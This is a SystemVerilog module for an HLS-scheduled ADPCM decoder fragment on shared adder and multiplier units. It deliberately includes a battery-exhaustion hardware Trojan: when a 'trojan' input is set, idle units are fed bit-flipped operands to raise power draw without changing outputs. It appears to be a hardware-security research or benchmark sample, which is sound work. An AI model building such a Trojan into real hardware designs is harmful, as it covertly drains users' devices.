// adpcm_exhaust: first steps of the ADPCM decoder
//     d_sl  = d_spl + d_szl
//     d_dlt = (d_det1 * tmp2) >> 15      (tmp2 = qq4_tab[ilr >> 2])
//     dl    = (d_det1 * tmp3) >> 15      (tmp3 = qq6_tab[il])
//     rl    = dl + d_sl
// as an HLS tool schedules them on one shared adder and one shared multiplier, with a
// battery-exhaustion Trojan on both units.
//
// Schedule (three cycles, from the data dependences):
//   C1  adder: d_spl + d_szl -> d_sl      multiplier: d_det1 * tmp2 -> d_dlt
//   C2  adder: idle                       multiplier: d_det1 * tmp3 -> dl
//   C3  adder: dl + d_sl -> rl            multiplier: idle
// Each unit has an operand multiplexer per input and an output register written only in the
// states that use its result. Every operand input goes through an fu_exhaust_mux: when the
// Trojan is active and the unit is idle (adder in C2, multiplier in C3), the unit is fed
// bit-flipped operands every cycle and its result is dropped, which raises dynamic power and
// changes no output. The schedule, the sharing of the two units and the bit-flip input
// multiplexers follow the design description. The table lookups are made outside this block
// (their contents are not part of the description) and arrive as tmp2 and tmp3. Operands are
// 32-bit signed, products are 64-bit ("long") and shifted arithmetically, and results are
// truncated to 32 bits; the input registers, the start/done handshake and treating only the
// three schedule states as places for fake operations are this implementation's choices.
//
// Timing: start is sampled in IDLE and the inputs are registered on that edge; C1, C2 and C3
// follow in the next three cycles; done is high for one cycle after C3, with all four results
// valid and held until the next start. Reset is active-low, synchronous.
module adpcm_exhaust #(
  parameter int unsigned DW = 32
) (
  input  logic                 clk,
  input  logic                 rst_n,
  input  logic                 start,
  input  logic signed [DW-1:0] d_spl,
  input  logic signed [DW-1:0] d_szl,
  input  logic signed [DW-1:0] d_det1,
  input  logic signed [DW-1:0] tmp2,
  input  logic signed [DW-1:0] tmp3,
  input  logic                 trojan,
  output logic                 busy,
  output logic                 done,
  output logic signed [DW-1:0] d_sl,
  output logic signed [DW-1:0] d_dlt,
  output logic signed [DW-1:0] dl,
  output logic signed [DW-1:0] rl,
  output logic                 add_fake,  // adder is running a fake operation this cycle
  output logic                 mul_fake   // multiplier is running a fake operation this cycle
);

  typedef enum logic [2:0] {IDLE, C1, C2, C3, FIN} state_t;
  state_t state;

  logic signed [DW-1:0] r_spl, r_szl, r_det1, r_tmp2, r_tmp3;

  // operand selection by the controller (real operands)
  logic [DW-1:0] add_a_val, add_b_val, mul_a_val, mul_b_val;
  logic [DW-1:0] add_a, add_b, mul_a, mul_b;
  logic          add_idle, mul_idle;
  logic signed [DW-1:0]   add_y;
  logic signed [2*DW-1:0] mul_p;
  logic signed [DW-1:0]   mul_y;

  always_comb begin
    add_a_val = r_spl;
    add_b_val = r_szl;
    mul_a_val = r_det1;
    mul_b_val = r_tmp2;
    unique case (state)
      C2:      mul_b_val = r_tmp3;
      C3: begin
        add_a_val = dl;
        add_b_val = d_sl;
      end
      default: ;
    endcase
  end

  assign add_idle = (state == C2);
  assign mul_idle = (state == C3);
  assign add_fake = add_idle && trojan;
  assign mul_fake = mul_idle && trojan;

  fu_exhaust_mux #(.WIDTH(DW)) u_add_a (.clk, .rst_n, .val(add_a_val), .idle(add_idle), .trojan, .fu_in(add_a));
  fu_exhaust_mux #(.WIDTH(DW)) u_add_b (.clk, .rst_n, .val(add_b_val), .idle(add_idle), .trojan, .fu_in(add_b));
  fu_exhaust_mux #(.WIDTH(DW)) u_mul_a (.clk, .rst_n, .val(mul_a_val), .idle(mul_idle), .trojan, .fu_in(mul_a));
  fu_exhaust_mux #(.WIDTH(DW)) u_mul_b (.clk, .rst_n, .val(mul_b_val), .idle(mul_idle), .trojan, .fu_in(mul_b));

  // the two shared functional units
  assign add_y = $signed(add_a) + $signed(add_b);
  assign mul_p = $signed(mul_a) * $signed(mul_b);
  assign mul_y = DW'(mul_p >>> 15);

  assign busy = (state != IDLE) && (state != FIN);
  assign done = (state == FIN);

  always_ff @(posedge clk) begin
    if (!rst_n) begin
      state  <= IDLE;
      r_spl  <= '0;
      r_szl  <= '0;
      r_det1 <= '0;
      r_tmp2 <= '0;
      r_tmp3 <= '0;
      d_sl   <= '0;
      d_dlt  <= '0;
      dl     <= '0;
      rl     <= '0;
    end else begin
      unique case (state)
        IDLE: if (start) begin
          r_spl  <= d_spl;
          r_szl  <= d_szl;
          r_det1 <= d_det1;
          r_tmp2 <= tmp2;
          r_tmp3 <= tmp3;
          state  <= C1;
        end
        C1: begin
          d_sl  <= add_y;   // wr_en of the adder output register
          d_dlt <= mul_y;   // wr_en of the multiplier output register
          state <= C2;
        end
        C2: begin
          dl    <= mul_y;
          state <= C3;
        end
        C3: begin
          rl    <= add_y;
          state <= FIN;
        end
        FIN:     state <= IDLE;
        default: state <= IDLE;
      endcase
    end
  end

  // done is a single-cycle pulse; fake operations happen only while a run is in progress
  a_done_pulse: assert property (@(posedge clk) disable iff (!rst_n) done |=> !done);
  a_fake_busy:  assert property (@(posedge clk) disable iff (!rst_n) (add_fake || mul_fake) |-> busy);

endmodule
